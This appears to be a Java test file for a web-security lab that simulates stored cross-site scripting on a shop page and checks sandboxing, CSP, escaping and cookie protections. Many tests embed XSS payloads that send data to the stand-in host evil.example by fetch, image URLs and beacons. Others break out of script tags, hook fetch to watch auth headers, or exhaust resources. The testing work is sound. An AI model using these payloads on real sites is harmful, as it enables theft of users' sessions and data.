package dev.authscope.lab;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import dev.authscope.flow.Exchange;
import dev.authscope.flow.FlowEvent;
import dev.authscope.flow.Header;
import dev.authscope.flow.Loot;
import dev.authscope.flow.Participant;
import dev.authscope.flow.Participant.Role;
import dev.authscope.flow.StorageArea;
import dev.authscope.server.settings.LabSettings;

/** Scripts in a page that the real server serves, in a comment that Mallory wrote. */
class PageScriptsTest {

    private static final List<Participant> EVERYBODY = List.of(new Participant("mallory", Role.ATTACKER, ""),
            new Participant("alice", Role.BROWSER, "https://shop.example"),
            new Participant("node-1", Role.SERVER, "https://shop.example"),
            new Participant("evil", Role.SERVER, "https://evil.example"));
    private static final String POST = "https://shop.example/posts/1";

    private Lab lab = lab("mode", "session");
    private boolean expectsErrors;

    @AfterEach
    void close() {
        lab.close();
    }

    private static Lab lab(String... settings) {
        Map<String, String> values = new LinkedHashMap<>(Map.of("escapeOutput", "off"));
        for (int i = 0; i < settings.length; i += 2) {
            values.put(settings[i], settings[i + 1]);
        }
        return Lab.start(new LabPlan("test", 1, new LabSettings(values), EVERYBODY));
    }

    private void restart(String... settings) {
        lab.close();
        lab = lab(settings);
    }

    private void alice(Action action) {
        lab.beginStep("a", "core", "alice", Map.of());
        lab.perform("alice", action);
    }

    /** Mallory writes a comment with the script, and Alice opens the post. */
    private void runs(String script) {
        lab.beginStep("m", "core", "mallory", Map.of());
        lab.perform("mallory", new Action.InjectXss("/posts/1", script));
        assertThat(last().response().status()).isEqualTo(201);
        alice(new Action.Visit(POST));
    }

    private Exchange last() {
        return lab.world().currentExchange().orElseThrow();
    }

    private List<String> printed() {
        assertThat(notes("script-error")).filteredOn(note -> !expectsErrors).isEmpty();
        return notes("script-console").stream().map(note -> note.get("text")).toList();
    }

    private List<Map<String, String>> notes(String code) {
        return lab.timeline()
                .events()
                .stream()
                .filter(FlowEvent.Noted.class::isInstance)
                .map(FlowEvent.Noted.class::cast)
                .filter(note -> note.code().equals(code))
                .map(FlowEvent.Noted::arguments)
                .toList();
    }

    private List<String> lines() {
        return lab.world().exchanges().values().stream().map(Exchange::line).toList();
    }

    @Test
    void aScriptSeesItsPage() {
        runs("console.log(document.title, location.href, location.pathname, document.querySelector('h1').textContent,"
                + " window === self, navigator.cookieEnabled)");
        assertThat(printed()).containsExactly("Spring sale " + POST + " /posts/1 Spring sale true true");
    }

    @Test
    void cookiesThatAreHttpOnlyAreNeitherReadNorWritten() {
        alice(new Action.Login("alice", "alice-pw-1", true));
        runs("document.cookie = 'theme=dark; Path=/'; document.cookie = 'SID=mine; Path=/';"
                + " console.log(document.cookie)");
        assertThat(printed()).containsExactly("theme=dark");
        assertThat(lab.actualCookies("alice")).extracting(cookie -> cookie.name() + cookie.httpOnly())
                .containsExactly("SIDtrue", "themefalse");
        assertThat(lab.actualCookies("alice").getFirst().value()).isNotEqualTo("mine");
    }

    @Test
    void storageIsThatOfTheOriginAndItsWritesAreRecorded() {
        runs("localStorage.setItem('a', 1); localStorage.b = 'two'; sessionStorage.setItem('c', 'three');"
                + " delete localStorage.a;"
                + " console.log(JSON.stringify(localStorage), localStorage.length, localStorage.getItem('none'),"
                + " Object.keys(sessionStorage), sessionStorage.c)");
        assertThat(printed()).containsExactly("{\"b\":\"two\"} 1 null c three");
        assertThat(lab.actualStored("alice", StorageArea.LOCAL_STORAGE, "https://shop.example", "b")).isEqualTo("two");
        assertThat(lab.world().browser("alice").stored(StorageArea.LOCAL_STORAGE)).hasSize(1);
    }

    @Test
    void fetchSendsRealRequestsAndReadsItsOwnOrigin() {
        alice(new Action.Login("alice", "alice-pw-1", true));
        runs("console.log('first'); fetch('/me').then(r => r.json()).then(me => console.log(me.sub));"
                + " fetch('/orders', {method: 'POST', headers: {'Content-Type': 'application/json'},"
                + " body: JSON.stringify({items: ['1']})}).then(r => console.log(r.status, r.ok));"
                + " console.log('second')");
        assertThat(printed()).startsWith("first", "second", "u-1001");
        assertThat(lines()).containsExactly("GET /posts/1", "GET /me", "POST /orders");
        assertThat(Header.first(last().request().headers(), "Cookie")).isPresent();
        assertThat(last().request().headers()).contains(new Header("Sec-Fetch-Site", "same-origin"));
    }

    @Test
    void anotherOriginIsNotReadWithoutItsPermission() {
        runs("fetch('https://api.shop.example/products').then(r => r.text()).then(t => console.log(t.length > 0),"
                + " e => console.log('api', e.name));"
                + " fetch('https://www.shop.example/lab/echo').then(r => console.log('read'),"
                + " e => console.log(e.name, e.message));"
                + " fetch('https://evil.example/collect').then(r => console.log('evil', r.status))");
        assertThat(printed()).containsExactly("true", "TypeError Failed to fetch", "evil 204");
    }

    @Test
    void anAnswerInModeNoCorsIsOpaque() {
        runs("fetch('https://evil.example/collect', {method: 'POST', mode: 'no-cors', body: 'hello'})"
                + ".then(r => console.log(r.type, r.status, r.ok))");
        assertThat(printed()).containsExactly("opaque 0 false");
        assertThat(lines()).containsExactly("GET /posts/1", "POST /collect");
        assertThat(last().to()).isEqualTo("evil");
        assertThat(last().request().headers()).contains(new Header("Sec-Fetch-Mode", "no-cors"),
                new Header("Sec-Fetch-Site", "cross-site"), new Header("Origin", "https://shop.example"),
                new Header("Content-Type", "text/plain;charset=UTF-8"));
        assertThat(lab.world().loot().values()).extracting(Loot::value, Loot::source)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("hello", "xss.text"));
    }

    @Test
    void headerFieldsThatAreForbiddenToScriptsAreLeftOut() {
        runs("fetch('/lab/echo', {headers: {Cookie: 'SID=forged', Host: 'evil.example', 'Sec-Fetch-Site': 'none',"
                + " Origin: 'https://evil.example', 'X-Own': 'yes'}}).then(r => r.text()).then(t => console.log("
                + "t.includes('forged'), t.includes('evil.example'), t.includes('Sec-Fetch-Site: same-origin'),"
                + " t.includes('X-Own: yes')));"
                + " fetch('/', {method: 'TRACE'}).catch(e => console.log(e.name));"
                + " fetch('/', {headers: {'X': 'a\\r\\nY: b'}}).catch(e => console.log(e.name));");
        assertThat(printed()).containsExactly("TypeError", "TypeError", "false false true true");
    }

    @Test
    void xmlHttpRequestsWorkBothWays() {
        runs("var x = new XMLHttpRequest(); x.open('GET', '/products', false); x.send();"
                + " console.log(x.status, x.responseText.includes('<h1>Products'));"
                + " var y = new XMLHttpRequest(); y.open('GET', '/me');"
                + " y.onload = function () { console.log('me', y.readyState, y.status); }; y.send(); console.log('sent')");
        assertThat(printed()).containsExactly("200 true", "sent", "me 4 401");
    }

    @Test
    void imagesAndBeaconsCarryValuesAway() {
        runs("new Image().src = 'https://evil.example/collect?v=' + encodeURIComponent('by image');"
                + " navigator.sendBeacon('https://evil.example/collect', 'by beacon');");
        assertThat(lines()).containsExactly("GET /posts/1", "GET /collect", "POST /collect");
        assertThat(lab.world().loot().values()).extracting(Loot::value)
                .containsExactlyInAnyOrder("by image",
                        "by beacon");
    }

    @Test
    void aHandlerOfAnImageRunsToo() {
        runs("1</script><img src='/nothing' onerror='console.log(\"no image\")'><script>console.log('last')");
        assertThat(printed()).containsExactly("no image", "last");
    }

    @Test
    void aScriptCanSendTheTabElsewhereAndNothingOfItRunsThere() {
        runs("setTimeout(function () { console.log('late'); }, 1000);"
                + " location.href = '/products'; console.log('going')");
        alice(new Action.AdvanceClock(Duration.ofMinutes(1)));
        assertThat(printed()).containsExactly("going");
        assertThat(lab.world().browser("alice").pageUrl()).isEqualTo("https://shop.example/products");
    }

    @Test
    void aPageThatLoadsItselfForEverIsStopped() {
        runs("location.reload()");
        assertThat(notes("script-stopped")).singleElement()
                .satisfies(note -> assertThat(note).containsEntry("limit", "navigations"));
    }

    @Test
    void timersRunOnLabTimeInTheirOrder() {
        runs("setTimeout(function () { console.log('b', Date.now()); }, 2000);"
                + " var n = 0, id = setInterval(function () { console.log('tick'); if (++n === 2) clearInterval(id); },"
                + " 1500); setTimeout(function () { console.log('at once'); }, 0); console.log('a', Date.now())");
        assertThat(printed()).containsExactly("a 1772409600000", "at once");
        alice(new Action.AdvanceClock(Duration.ofSeconds(10)));
        assertThat(printed()).containsExactly("a 1772409600000", "at once", "tick", "b 1772409602000", "tick");
    }

    @ParameterizedTest
    @ValueSource(strings = {"for (;;) {}", "function f() { setTimeout(f, 0); } f();",
            "for (;;) fetch('/products')", "for (var i = 0;; i++) localStorage.setItem('k' + i, 'v')",
            "for (;;) console.log('x')", "var all = []; for (;;) all.push('x'.repeat(1000) + all.length)",
            "var o = {}; for (var i = 0;; i++) o['k' + i] = [i, i, i, i]", "'x'.repeat(1e9)",
            "function g() { Promise.resolve().then(g); } g();" })
    void aHostileScriptIsStoppedAndHarmsNothing(String script) {
        runs(script + ";</script><script>console.log('another script of the page')");
        assertThat(notes("script-stopped")).hasSize(1);
        if (!script.contains("setTimeout")) {
            assertThat(printed()).doesNotContain("another script of the page");
        }
        alice(new Action.Call("GET", "/me", null));
        assertThat(last().response().status()).isEqualTo(401);
    }

    @Test
    void anErrorIsRecordedAndTheNextScriptRuns() {
        expectsErrors = true;
        runs("null.x;</script><script>console.log('next')");
        assertThat(notes("script-error")).singleElement()
                .satisfies(note -> assertThat(note.get("message")).contains("TypeError"));
        assertThat(printed()).containsExactly("next");
    }

    @Test
    void aHostThatIsNotTheLabsIsNeverReached() {
        runs("fetch('https://www.wikipedia.org/').then(r => console.log('reached'), e => console.log(e.name));"
                + " fetch('file:///etc/passwd').then(r => 1, e => 1)");
        assertThat(printed()).containsExactly("TypeError");
        assertThat(last().failure().reason()).isEqualTo("blocked");
    }

    @ParameterizedTest
    @ValueSource(strings = {"mode=session", "mode=jwt+refresh" })
    void aCommentIsTextWhereItIsEscaped(String mode) {
        restart("mode", mode.substring(5), "escapeOutput", "on");
        runs("console.log('ran'); fetch('https://evil.example/collect', {method: 'POST', body: 'x'})");
        assertThat(printed()).isEmpty();
        assertThat(lines()).containsExactly("GET /posts/1");
        assertThat(last().response().body().utf8()).contains("&lt;script&gt;").doesNotContain("<script>");
        assertThat(lab.world().loot().values()).isEmpty();
    }

    @Test
    void theSameSeedGivesTheSameOctets() {
        String script = "fetch('/me'); console.log(Math.random(), Math.random(), new Date().toLocaleString());";
        runs(script);
        List<String> first = printed();
        restart("mode", "session");
        runs(script);
        assertThat(printed()).isEqualTo(first);
        assertThat(first.getFirst()).startsWith("0.");
    }

    @Test
    void aPolicyKeepsAScriptInThePageFromRunning() {
        restart("mode", "session", "csp", "on");
        runs("console.log('ran');");
        assertThat(printed()).isEmpty();
        assertThat(notes("csp.script")).hasSize(1);
    }

    @Test
    void aPolicyForConnectionsLetsAScriptRunButNotSendAbroad() {
        restart("mode", "session", "csp", "connectOnly");
        runs("fetch('/products').then(a => console.log(a.status));"
                + "fetch('https://evil.example/collect', {method: 'POST', mode: 'no-cors', body: 'x'})"
                + ".catch(e => console.log(e.message));"
                + "navigator.sendBeacon('https://evil.example/collect', 'x');");
        assertThat(printed()).containsExactlyInAnyOrder("200", "Failed to fetch");
        assertThat(notes("csp.connect")).hasSize(2);
        assertThat(lab.world().loot().values()).isEmpty();
    }

    @Test
    void aPageThatCameByTlsAsksNobodyWithoutIt() {
        runs("fetch('http://evil.example/collect', {method: 'POST', mode: 'no-cors', body: 'x'})"
                + ".catch(e => console.log('fetch', e.message));"
                + "let x = new XMLHttpRequest(); x.open('GET', 'http://shop.example/products');"
                + "x.onerror = () => console.log('xhr'); x.send();"
                + "navigator.sendBeacon('http://evil.example/collect', 'x');");
        assertThat(printed()).containsExactlyInAnyOrder("fetch Failed to fetch", "xhr");
        assertThat(notes("mixed.blocked")).hasSize(3);
        assertThat(lines()).noneMatch(line -> line.contains("http://")).noneMatch(line -> line.contains("collect"));
    }

    @Test
    void anImageWithoutTlsIsAskedForWithItAndIsHeldBackWhereTheHostIsAnAddress() {
        runs("new Image().src = 'http://evil.example/payload.js'; new Image().src = 'http://127.9.9.9/pixel';"
                + "new Image().src = 'http://192.0.2.1/pixel';");
        assertThat(notes("mixed.upgraded")).extracting(note -> note.get("to"))
                .containsExactly("https://evil.example/payload.js");
        assertThat(notes("mixed.blocked")).extracting(note -> note.get("url"))
                .containsExactly("http://192.0.2.1/pixel");
        assertThat(lab.world().exchanges().values()).extracting(exchange -> exchange.request().url())
                .contains("https://evil.example/payload.js")
                .doesNotContain("http://192.0.2.1/pixel");
    }

    @Test
    void fetchFollowsARedirectAndSaysWhereItEnded() {
        runs("let form = {method: 'POST', body: 'username=alice&password=alice-pw-1',"
                + " headers: {'Content-Type': 'application/x-www-form-urlencoded'}};"
                + "fetch('/login', form).then(a => console.log(a.status, a.redirected, a.type, a.url))"
                + ".then(() => fetch('/login', {...form, redirect: 'manual'}))"
                + ".then(a => console.log(a.status, a.redirected, a.type, a.url))"
                + ".then(() => fetch('/login', {...form, redirect: 'error'})).catch(e => console.log(e.message))");
        assertThat(printed()).containsExactly("200 true basic https://shop.example/", "0 false opaqueredirect ",
                "Failed to fetch");
    }

    @Test
    void aScriptEndsWithItsTab() {
        runs("setTimeout(() => console.log('late'), 1000); console.log('early');");
        assertThat(printed()).containsExactly("early");
        alice(new Action.CloseTab());
        alice(new Action.AdvanceClock(Duration.ofSeconds(5)));
        assertThat(printed()).containsExactly("early");
    }

    @Test
    void aScriptThatTakesThePlaceOfFetchHearsThePagesOwnRequests() {
        restart("mode", "jwt", "atStore", "memory");
        runs("var original = window.fetch; window.fetch = function (address, details) {"
                + " console.log(address, details.method, (details.headers || {}).Authorization ? 'token' : 'none');"
                + " return original(address, details).then(function (a) { console.log(a.status); return a; }); };");
        alice(new Action.Login("alice", "alice-pw-1", true));
        alice(new Action.Call("GET", "https://api.shop.example/me", null));
        assertThat(printed()).containsExactly("https://shop.example/auth/login POST none", "200",
                "https://api.shop.example/me GET token", "200");
        assertThat(last().response().status()).isEqualTo(200);
    }

    @Test
    void thePagesOwnClientSendsForAnyScriptButShowsNoneItsToken() {
        restart("mode", "jwt", "atStore", "memory");
        runs("console.log(Object.keys(shop).length, JSON.stringify(shop), typeof shop.access_token);"
                + "setTimeout(() => shop.request('GET', 'https://api.shop.example/me').then(s => console.log(s)), 1000);");
        alice(new Action.Login("alice", "alice-pw-1", true));
        alice(new Action.AdvanceClock(Duration.ofSeconds(1)));
        assertThat(printed()).containsExactly("0 {} undefined", "200");
        assertThat(Header.first(last().request().headers(), "Authorization")).isPresent();
    }

    @Test
    void aSwallowedRequestIsNeverSent() {
        runs("window.fetch = function () { return new Promise(function () {}); };");
        alice(new Action.Call("GET", "/me", null));
        assertThat(lab.world().exchanges().values()).isEmpty();
    }
}
